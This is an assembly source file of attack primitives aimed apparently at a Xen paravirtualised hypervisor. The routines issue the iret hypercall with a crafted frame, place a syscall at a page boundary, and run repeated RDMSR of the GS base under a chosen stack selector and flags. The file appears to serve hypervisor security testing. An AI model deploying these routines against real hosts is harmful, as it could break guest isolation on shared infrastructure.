// SPDX-License-Identifier: MIT
// Where attacks leave the guest's kernel and arrive in it.

    .text
    // void attack_iret(abi::IretContext const* frame): the hypercall, with this frame as the stack.
    .globl attack_iret
attack_iret:
    mov %rdi, %rsp
    mov $23, %eax
    syscall

    // Arrived: a hypercall and a breakpoint under the flags of the moment, then the end of the attempt.
    .globl attack_landing
attack_landing:
    mov $17, %eax                       // xen_version(XENVER_version)
    xor %edi, %edi
    syscall
    mov %rax, %rbx
    int3
    ud2

    // To be copied to the end of a page: the address after the instruction is that of the next page.
    .globl attack_syscall, attack_syscall_end
attack_syscall:
    syscall
attack_syscall_end:

    // void attack_rdmsr(u64 selector, u64 flags): RDMSR of the user's GS base, which the hypervisor emulates in its
    // shortest way, with this stack selector and these flags.
    .globl attack_rdmsr
attack_rdmsr:
    pushfq
    push %rsi
    mov %edi, %ss
    popfq
    mov $0xc0000102, %ecx
    .rept 8
    rdmsr
    .endr
    popfq
    mov $0xe02b, %ecx
    mov %ecx, %ss
    ret

    .section .note.GNU-stack, "", @progbits
